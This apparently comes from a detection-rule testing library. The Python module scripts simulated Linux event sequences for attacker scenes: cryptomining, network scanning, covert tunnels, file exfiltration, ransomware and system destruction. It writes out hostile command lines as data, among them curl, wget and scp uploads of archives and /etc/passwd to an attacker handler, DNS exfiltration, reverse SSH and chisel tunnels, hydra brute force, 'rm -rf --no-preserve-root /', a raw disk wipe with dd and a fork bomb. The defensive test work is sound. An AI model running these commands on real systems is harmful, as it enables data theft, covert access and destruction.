"""Scenes of what attackers came for: mining, scanning, tunnels, stolen files, files held to ransom, destruction."""

# ruff: noqa: D401, S104, S108 - a docstring tells the plot; paths and addresses are part of a story, nothing is opened
from __future__ import annotations

from typing import TYPE_CHECKING

from ruleglot.events.activity import (
    Accept,
    Access,
    Bind,
    Call,
    ChangeOwner,
    Connect,
    DirectoryDelete,
    Endpoint,
    Error,
    Exec,
    Exit,
    FailedExec,
    FileCreate,
    FileDelete,
    FileOpen,
    FileRead,
    FileRename,
    FileWrite,
    SendSignal,
    Signal,
    Transport,
)
from ruleglot.events.identity import Layer
from ruleglot.events.scenes.stage import after

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ruleglot.events.activity import LinuxActivity
    from ruleglot.events.scenes.stage import Scene, Stage


def miners(stage: Stage) -> Iterator[LinuxActivity]:
    """Coins for a stranger."""
    shell, start = stage.cast.web_shell, stage.start
    fresh = {"layer": Layer.UPPER, "cwd": "/var/tmp"}
    miner = start(shell, "/var/tmp/xmrig", "./xmrig -o stratum+tcp://pool.example.com:3333", invoked="./xmrig", **fresh)
    yield Exec(process=miner, story="a miner with its pool among the arguments")
    yield Connect(process=miner, source=stage.in_pod(), destination=stage.site(3333), story="the miner joins its pool")
    yield FileOpen(
        process=miner,
        path="/sys/devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages",
        access=Access.WRITE,
        error=Error.EROFS,
        story="it wants more memory than a container gets",
    )
    rivals = stage.applet(shell, "/usr/bin/pkill", "pkill -9 kdevtmpfsi")
    yield Exec(process=rivals, story="its rivals are to go")
    yield SendSignal(process=rivals, target=miner, signal=Signal.SIGKILL, story="the wrong one is hit")
    yield Exit(process=miner, signal=Signal.SIGKILL, story="the miner is gone")
    yield Exec(
        process=start(stage.cast.root_shell, "/usr/sbin/modprobe", "modprobe msr allow_writes=on"),
        story="a faster machine",
    )
    yield FailedExec(
        process=shell, path="/var/tmp/xmrig", error=Error.ENOENT, argv=("./xmrig",), story="somebody has tidied up"
    )


def scans(stage: Stage) -> Iterator[LinuxActivity]:
    """Looking for what else there is."""
    debug, bash, start = stage.cast.debug_shell, stage.cast.bash, stage.start
    nmap = start(debug, "/usr/bin/nmap", "nmap -sT -p 22,80,6443,10250 10.244.0.0/16")
    yield Exec(process=nmap, story="a pod looks at all other pods")
    for number, port, error in (
        (2, 22, Error.ECONNREFUSED),
        (3, 6443, Error.EINPROGRESS),
        (4, 10250, Error.EHOSTUNREACH),
    ):
        yield Connect(
            process=nmap,
            source=stage.here(),
            destination=Endpoint(ip=f"10.244.0.{number}", port=port),
            error=error,
            story=f"is there somebody at port {port}?",
        )
    loop = start(bash, "/bin/bash", "bash -c 'for i in {1..254}; do (ping -c1 10.1.2.$i &); done'")
    yield Exec(process=loop, story="a loop asks a whole network")
    arp = start(bash, "/usr/bin/cat", "cat /proc/net/arp")
    yield FileOpen(process=arp, path="/proc/net/arp", access=Access.READ, story="who are the neighbours?")
    hydra = start(bash, "/usr/bin/hydra", "hydra -l root -P words.txt ssh://10.1.2.9")
    yield Exec(process=hydra, story="many passwords for one door")
    yield Connect(
        process=hydra, source=stage.here(), destination=Endpoint(ip="10.1.2.9", port=22), story="the first of them"
    )
    yield Connect(
        process=bash,
        source=stage.here(),
        destination=Endpoint(ip="10.77.0.1", port=445),
        error=Error.ENETUNREACH,
        story="a network that cannot be reached",
    )


def tunnels(stage: Stage) -> Iterator[LinuxActivity]:
    """Ways in and out that nobody sees."""
    bash, handler, start = stage.cast.bash, stage.cast.details.handler, stage.start
    ssh = start(bash, "/usr/bin/ssh", f"ssh -fN -R 2222:localhost:22 u@{handler}")
    yield Exec(process=ssh, story="a way back through ssh")
    yield Connect(
        process=ssh, source=stage.here(), destination=stage.handler(22), story="the tunnel is dug from inside"
    )
    socks = start(bash, "/usr/bin/ssh", "ssh -D 1080 bob@10.1.2.9")
    yield Bind(process=socks, address=Endpoint(ip="127.0.0.1", port=1080), story="a door to another network")
    chisel = start(
        stage.cast.web_shell,
        "/tmp/chisel",
        f"./chisel client {handler}:8080 R:socks",
        invoked="./chisel",
        cwd="/tmp",
        layer=Layer.UPPER,
    )
    yield Exec(process=chisel, story="a tunnel out of a pod")
    yield Connect(process=chisel, source=stage.in_pod(), destination=stage.handler(8080), story="it looks like the web")
    iodine = start(stage.cast.root_shell, "/usr/sbin/iodine", "iodine -f -P x t.example.com")
    yield Connect(
        process=iodine,
        source=stage.here(),
        destination=stage.handler(53),
        transport=Transport.UDP,
        story="a tunnel made of names",
    )
    relay = start(bash, "/usr/bin/socat", "socat TCP-LISTEN:8443,fork TCP:10.1.2.3:5432")
    yield Bind(process=relay, address=Endpoint(ip="0.0.0.0", port=8443), story="a door to the database")
    yield Accept(
        process=relay,
        source=stage.handler(stage.here().port),
        destination=Endpoint(ip=stage.cast.details.address, port=8443),
        story="the stranger comes in by it",
    )


def stolen_files(stage: Stage) -> Iterator[LinuxActivity]:
    """Files are packed and carried away."""
    bash, apache, handler, start = stage.cast.bash, stage.cast.apache, stage.cast.details.handler, stage.start
    tar = start(bash, "/usr/bin/tar", "tar czf /tmp/.x.tgz /home /etc")
    yield Exec(process=tar, story="homes are packed into a hidden file")
    yield FileCreate(process=tar, path="/tmp/.x.tgz", story="the loot lies in /tmp")
    for line, story in (
        (f"curl -F file=@/tmp/.x.tgz http://{handler}/up", "the loot leaves as a form"),
        (f"curl -T /tmp/.x.tgz ftp://{handler}/", "the loot leaves as an upload"),
        (f"wget --post-file=/etc/passwd http://{handler}/", "passwd leaves by wget"),
        (f"scp /tmp/.x.tgz u@{handler}:", "the loot leaves by scp"),
        ("dig +short 6869.t.example.com", "the loot leaves letter by letter, as names"),
        ("rclone copy /srv remote:loot", "the loot goes to a cloud"),
    ):
        yield Exec(process=start(bash, f"/usr/bin/{line.partition(' ')[0]}", line), story=story)
    curl = start(apache, "/usr/bin/curl", f"curl --data-binary @/var/www/html/config.php https://{handler}/")
    opened = FileOpen(
        process=curl, path="/var/www/html/config.php", access=Access.READ, story="the shop's configuration is opened"
    )
    yield opened
    curl = after(opened)
    yield FileRead(process=curl, descriptor=opened.descriptor, data=b"<?php $db=", story="its password is read")
    called = Connect(process=curl, source=stage.here(), destination=stage.handler(443), story="a stranger is called")
    yield called
    yield FileWrite(process=after(called), descriptor=called.descriptor, data=b"POST / ", story="and told it")
    dump = start(stage.cast.postgres, "/usr/lib/postgresql/16/bin/pg_dumpall", "pg_dumpall -f /tmp/.d")
    yield Exec(process=dump, story="a database is dumped into a hidden file")


def ransom(stage: Stage) -> Iterator[LinuxActivity]:
    """Files are locked away, and a letter says why."""
    admin, start = stage.cast.root_shell, stage.start
    locker = start(admin, "/tmp/locker", "./locker /srv", invoked="./locker", cwd="/tmp")
    yield Exec(process=locker, story="a locker begins with /srv")
    for number, name in enumerate(("accounts.xlsx", "letters.odt", "shop.sqlite"), 1):
        yield FileOpen(process=locker, path=f"/srv/{name}", access=Access.READ_WRITE, story=f"file {number} is locked")
        yield FileRename(
            process=locker,
            original=f"/srv/{name}",
            path=f"/srv/{name}.locked",
            call=Call.RENAME,
            story=f"file {number} is renamed",
        )
    yield FileCreate(process=locker, path="/srv/HOW_TO_GET_IT_BACK.txt", story="a letter about money")
    yield FileDelete(process=locker, path="/backup/shop.dump", call=Call.UNLINK, story="the backups are removed first")
    gpg = start(admin, "/usr/bin/gpg", "gpg --batch --passphrase x -c /srv/archive.tar")
    yield Exec(process=gpg, story="an archive is locked with an honest tool")
    yield FileOpen(process=locker, path="/etc/motd", access=Access.OVERWRITE, story="everybody shall read the letter")


def destruction(stage: Stage) -> Iterator[LinuxActivity]:
    """Nothing is left."""
    admin, start = stage.cast.root_shell, stage.start
    remove = start(admin, "/usr/bin/rm", "rm -rf --no-preserve-root /")
    yield Exec(process=remove, story="everything is to be removed")
    yield FileDelete(process=remove, path="/boot/vmlinuz", story="beginning with the kernel")
    yield DirectoryDelete(process=remove, path="/srv/shop", story="the shop goes")
    yield DirectoryDelete(process=remove, path="/proc", error=Error.EBUSY, story="not everything can go")
    dd = start(admin, "/usr/bin/dd", "dd if=/dev/zero of=/dev/sda bs=1M")
    yield Exec(process=dd, story="the disk is filled with nothing")
    disk = FileOpen(process=dd, path="/dev/sda", access=Access.OVERWRITE, story="the disk is opened raw")
    yield disk
    yield FileWrite(
        process=after(disk), descriptor=disk.descriptor, data=b"\0\0\0\0", story="the first four bytes of nothing"
    )
    yield Exec(
        process=start(admin, "/usr/sbin/mke2fs", "mkfs.ext4 -F /dev/sdb1", invoked="/usr/sbin/mkfs.ext4"),
        story="an empty disk",
    )
    yield ChangeOwner(
        process=start(admin, "/usr/bin/chown", "chown -R nobody:nogroup /etc"),
        path="/etc",
        user=65534,
        group=65534,
        story="nobody owns /etc",
    )
    bomb = start(stage.cast.bash, "/bin/bash", "bash -c ':(){ :|:& };:'")
    yield Exec(process=bomb, story="a bomb of forks")
    yield Exit(process=bomb, code=254, story="it has no effect")


HOSTILE: tuple[Scene, ...] = (miners, scans, tunnels, stolen_files, ransom, destruction)
